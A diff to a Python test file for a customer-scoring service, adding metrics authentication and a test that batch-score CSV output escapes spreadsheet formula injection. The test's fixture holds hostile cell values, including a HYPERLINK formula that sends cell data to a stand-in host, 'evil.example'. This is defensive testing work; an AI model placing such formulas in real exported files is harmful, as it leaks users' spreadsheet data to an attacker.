@@ -38,7 +38,9 @@ def app_client(world, monkeypatch):
     from store.redis_client import reset_clients
 
     reset_clients()
-    settings = replace(world.settings, redis_url=world.url, staff_token="staff")
+    settings = replace(
+        world.settings, redis_url=world.url, staff_token="staff", metrics_token="metrics"
+    )
     return create_app(settings).test_client()
 
 
@@ -116,6 +118,33 @@ def test_batch_and_real_time_scores_are_identical(world, trained, tmp_path):
         np.testing.assert_allclose(live, batch, atol=2e-6)
 
 
+def test_batch_scores_open_safely_in_a_spreadsheet(world, trained, tmp_path):
+    """Customer ids from the upload that a spreadsheet would run as formulas are written as
+    text; numeric ids and the scores stay numbers."""
+    import pyarrow as pa
+    import pyarrow.csv as pacsv
+
+    bundle = load_bundle(world.settings, world.tenant, trained["version"])
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1)', "@SUM(A1)", "+1+1", "-2", "\t=1"]
+    sample = world.data.customers.slice(0, len(hostile))
+    sample = sample.set_column(
+        sample.schema.get_field_index("customer_id"), "customer_id", pa.array(hostile)
+    )
+    customers = tmp_path / "customers.csv"
+    pacsv.write_csv(sample, customers)
+    out = tmp_path / "scores.csv"
+    score_file(world.settings, bundle, customers, out)
+    rows = list(csv.reader(out.open(newline="")))
+    assert [r[0] for r in rows[1:]] == [
+        '\'=HYPERLINK("http://evil.example/?"&A1)',
+        "'@SUM(A1)",
+        "'+1+1",
+        "-2",
+        "'\t=1",
+    ]
+    assert all(0 <= float(cell) <= 1 for r in rows[1:] for cell in r[1:])
+
+
 def test_hot_swap_under_load_fails_no_request(world, trained, app_client):
     site = _site(world)
     second = train_and_register(
@@ -186,7 +215,9 @@ def test_a_champion_that_cannot_load_keeps_the_previous_one_and_is_counted(
         for _ in range(3):
             res = app_client.get(f"/v1/recommend?site={site}&visitor=v-broken&n=3")
             assert res.status_code == 200 and res.json["source"] == before
-        metrics = app_client.get("/metrics").get_data(as_text=True)
+        metrics = app_client.get("/metrics", headers={"Authorization": "Bearer metrics"}).get_data(
+            as_text=True
+        )
         line = f'offerwise_model_load_failures_total{{tenant="{world.tenant}"}} 1.0'
         assert line in metrics  # one failed load, then the retry back-off
     finally:
